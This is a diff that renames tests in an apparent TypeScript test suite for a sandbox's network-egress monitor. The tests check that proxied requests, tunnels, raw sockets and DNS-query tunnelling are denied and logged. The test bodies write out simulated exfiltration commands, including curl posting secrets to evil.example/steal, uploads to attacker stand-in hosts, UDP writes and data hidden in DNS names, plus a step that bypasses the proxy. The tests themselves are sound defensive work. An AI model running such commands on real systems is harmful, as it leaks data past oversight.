@@ -48,7 +48,7 @@ async function publicHost(): Promise<{ reach: Reach; seen: string[] }> {
 
 const kinds = (events: readonly EgressEvent[]) => events.map(({ kind }) => kind);
 
-test('a request through the proxy is refused, and recorded with all that it would have said', async () => {
+test('a request through the proxy is refused and recorded in full', async () => {
   const { said, events } = await watch(
     DENY,
     'curl --silent --write-out "%{http_code}" "http://Evil.example:8080/steal?x=1" --header "X-Key: k" --data secret',
@@ -69,13 +69,13 @@ test('a request through the proxy is refused, and recorded with all that it woul
   ]);
 });
 
-test('a tunnel is refused, and recorded', async () => {
+test('a tunnel is refused and recorded', async () => {
   const { said, events } = await watch(DENY, 'curl --silent --show-error https://evil.example/steal');
   expect(said).toMatch(/403/);
   expect(events).toMatchObject([{ kind: 'connect', host: 'evil.example', port: 443, decision: 'denied' }]);
 });
 
-test('a program that knows no proxy is led by the DNS to where it is seen all the same', async () => {
+test('a program that ignores the proxy is redirected by DNS and still recorded', async () => {
   const { said, events } = await watch(
     DENY,
     `export -n http_proxy https_proxy; unset HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy http_proxy https_proxy
@@ -89,7 +89,7 @@ test('a program that knows no proxy is led by the DNS to where it is seen all th
   expect(events.flatMap((event) => (event.kind === 'dns' ? event.host : []))).toContain('plain.example');
 });
 
-test('whatever else is connected to a common port is recorded by the name that led there', async () => {
+test('any other connection to a common port is recorded with the name that led there', async () => {
   const script = `
 import socket
 s = socket.create_connection(('mail.example', 25)); s.sendall(b'\\x00 raw words'); s.shutdown(1); print(s.recv(9))
@@ -102,7 +102,7 @@ t = socket.create_connection(('quiet.example', 22)); t.close()`;
   ]);
 });
 
-test('data in the names of DNS questions is recorded, of whatever type they are', async () => {
+test('data in the names of DNS queries is recorded, whatever the query type', async () => {
   const script = `
 import socket, struct
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
@@ -119,7 +119,7 @@ s.sendto(b'not a question', ('127.0.0.1', 53))`;
   expect(questions).toContain('not a question unreadable');
 });
 
-test('a fixture answers the requests that it is for, and no other', async () => {
+test('a fixture answers only the requests that it matches', async () => {
   const fixtures = [
     { method: 'GET', url: '^http://api\\.example/v1/', status: 202, headers: { 'x-a': 'b' }, body: '{}' },
   ];
@@ -131,7 +131,7 @@ test('a fixture answers the requests that it is for, and no other', async () => 
   expect(events.map((event) => event.kind === 'http' && event.decision)).toEqual(['fixture', 'denied']);
 });
 
-test('an allowed host is reached for real, by its own name, and no other is', async () => {
+test('an allowed host is actually reached by its own name, and no other is', async () => {
   const { reach, seen } = await publicHost();
   const { said, events } = await watch(
     ALLOWED,
@@ -151,7 +151,7 @@ test('an allowed host is reached for real, by its own name, and no other is', as
   ]);
 });
 
-test('an allowed name that leads to this machine or its network is not followed', async () => {
+test('an allowed name that resolves to this machine or its network is not followed', async () => {
   const server = createServer((_incoming, outgoing) => outgoing.end('reached'));
   onTestFinished(() => void server.close());
   server.listen(0, '127.0.0.1');
@@ -167,7 +167,7 @@ test('an allowed name that leads to this machine or its network is not followed'
   expect(said.match(/502/g)).toHaveLength(2);
 });
 
-test('a body is kept in part and measured in full', async () => {
+test('a long body is kept in part and measured in full', async () => {
   const { events } = await watch(
     DENY,
     'head -c 3M /dev/zero | curl --silent http://evil.example/ --upload-file -',
@@ -198,7 +198,7 @@ async function watchProcesses(command: string) {
   return { said: `${stdout}${stderr}`.trim(), processes, egress: await sandbox.egress() };
 }
 
-test('a name that was looked up is on record with its address, where no port takes what is sent', async () => {
+test('a name that was looked up is recorded with its address, even if no port accepts the data', async () => {
   const { processes, egress } = await watchProcesses('printf key >/dev/udp/vendor.example/514');
   expect(egress).toMatchObject([
     { kind: 'dns', host: 'vendor.example', address: '127.64.0.1' },
@@ -210,7 +210,7 @@ test('a name that was looked up is on record with its address, where no port tak
   expect(processes).toMatchObject({ undelivered: 1 });
 });
 
-test('a question for the sandbox itself, as servers ask it, is no use of the network', async () => {
+test('an ordinary query for the sandbox itself does not count as use of the network', async () => {
   const { said, egress, processes } = await watchProcesses(`
     python3 -m http.server 8000 >/dev/null 2>&1 &
     curl --silent --output /dev/null --retry 5 --retry-delay 1 --retry-connrefused http://localhost:8000/ --next --silent --output /dev/null http://sandbox:8000/
@@ -222,18 +222,21 @@ test('a question for the sandbox itself, as servers ask it, is no use of the net
 });
 
 test.each([
-  ['a name below it', 'getent hosts key.localhost || getent hosts key.sandbox'],
-  ['spelled otherwise', 'getent hosts SandBox'],
+  ['a subdomain', 'getent hosts key.localhost || getent hosts key.sandbox'],
+  ['another spelling', 'getent hosts SandBox'],
   [
-    'with something behind it',
+    'trailing data',
     `python3 -c 'import socket; s = socket.socket(2, 2); s.connect(("127.0.0.1", 53))
 s.send(b"\\0\\7\\1\\0\\0\\1" + bytes(6) + b"\\7sandbox\\0\\0\\1\\0\\1key"); s.recv(99)'`,
   ],
-])('a question for the sandbox itself that can hold data is one: %s', async (_what, ask) => {
-  expect((await watch(DENY, ask)).events).not.toEqual([]);
-});
+])(
+  'a query for the sandbox itself that can carry data counts as use of the network: %s',
+  async (_what, ask) => {
+    expect((await watch(DENY, ask)).events).not.toEqual([]);
+  },
+);
 
-test('what ordinary programs ask of the network is carried, and leaves nothing undelivered', async () => {
+test('network use of ordinary programs is carried, and nothing is left undelivered', async () => {
   const { said, processes, egress } = await watchProcesses(`
     curl --silent --output /dev/null http://vendor.example/ --next --noproxy '*' https://vendor.example/
     getent hosts vendor.example; getent ahosts localhost >/dev/null
@@ -248,7 +251,7 @@ test('what ordinary programs ask of the network is carried, and leaves nothing u
   expect(processes).toMatchObject({ undelivered: 0, complete: true });
 });
 
-test('clients that reuse a connection leave one event for each request and no other', async () => {
+test('clients that reuse a connection cause one event for each request and no other', async () => {
   const fixtures = [{ url: '.*', status: 200, headers: {}, body: 'answer' }];
   const { said, events } = await watch(
     { kind: 'fixtures', fixtures },
@@ -296,7 +299,7 @@ setTimeout(() => process.exit(), 1500)'
   expect([large.length, new Set(large).size]).toEqual([4, 1]);
 });
 
-test('an answer to a program that is gone is not sent and does not count as lost', async () => {
+test('an answer to a program that is gone is not sent and does not count as undelivered', async () => {
   const question =
     '\\x00\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06vendor\\x07example\\x00\\x00\\x01\\x00\\x01';
   const { processes, egress } = await watchProcesses(
